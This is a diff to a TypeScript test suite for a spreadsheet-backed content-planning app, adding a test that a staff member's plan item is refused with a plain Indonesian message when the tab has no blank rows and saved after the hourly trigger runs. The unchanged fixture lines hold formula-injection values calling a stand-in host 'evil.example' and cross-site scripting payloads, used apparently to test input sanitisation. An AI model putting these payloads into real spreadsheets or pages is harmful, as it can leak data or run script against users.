@@ -35,7 +35,7 @@ import {
   world,
 } from './catalogue';
 import type { Sandbox } from '../../sandbox/src/sandbox';
-import { flushHeldLog } from '../integration/helpers';
+import { flushHeldLog, runTrigger } from '../integration/helpers';
 
 const FORMULAS = ['=IMPORTXML("http://evil.example/x","//a")', '=HYPERLINK("http://evil.example","klik")', '+6281234567', '-5', '@SUM(A1:A3)', "'=sudah dikutip", '=1+1'];
 const HTML = '<script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">x</a>';
@@ -262,6 +262,28 @@ describe('inputs: blank or duplicated IDs, rows pasted with missing values', () 
     expect(said).toMatch(/4: PIC/);
     expectPlainMessage(said.replace(/^Periode yang diajukan.*$/m, ''));
     expect(snapshotWorkbook(sb)).toEqual(before);
+  });
+});
+
+describe('inputs: a tab with no blank rows left', () => {
+  it("a staff member's new plan item is refused in plain words with nothing written, and saves once the owner's hourly run has added blank rows", () => {
+    const sb = world();
+    // The plan tab ends at its last item (many items added since setup; the tab never grows by itself).
+    const book = (sb.state.services.spreadsheet as { book: { sheets: Array<{ name: string; maxRows: number; cells: unknown[] }> } }).book;
+    const tab = book.sheets.find((x) => x.name === TAB.konsep)!;
+    tab.maxRows = tab.cells.length;
+    const before = records(sb, TAB.konsep);
+    const item = { period: '2026-05', date: '2026-05-14', activity: 'Infografik hak konstitusional', category: 'Edukasi', platforms: ['Instagram'], pic: STAFF, description: '' };
+    const refused = api(sb, 'apiSaveConcept', STAFF, item);
+    expect(refused.ok).toBe(false);
+    expect(refused.error?.code).not.toBe('INTERNAL');
+    expectPlainMessage(refused.error?.message ?? '');
+    expect(refused.error?.message).toContain('tidak punya baris kosong lagi');
+    expect(records(sb, TAB.konsep)).toEqual(before);
+    expect(runTrigger(sb, 'triggerHourly', KABAG).ok).toBe(true);
+    const saved = api<{ id: string }>(sb, 'apiSaveConcept', STAFF, item);
+    expect(saved.ok).toBe(true);
+    expect(records(sb, TAB.konsep).map((x) => x['Kegiatan/Informasi'])).toContain('Infografik hak konstitusional');
   });
 });
 
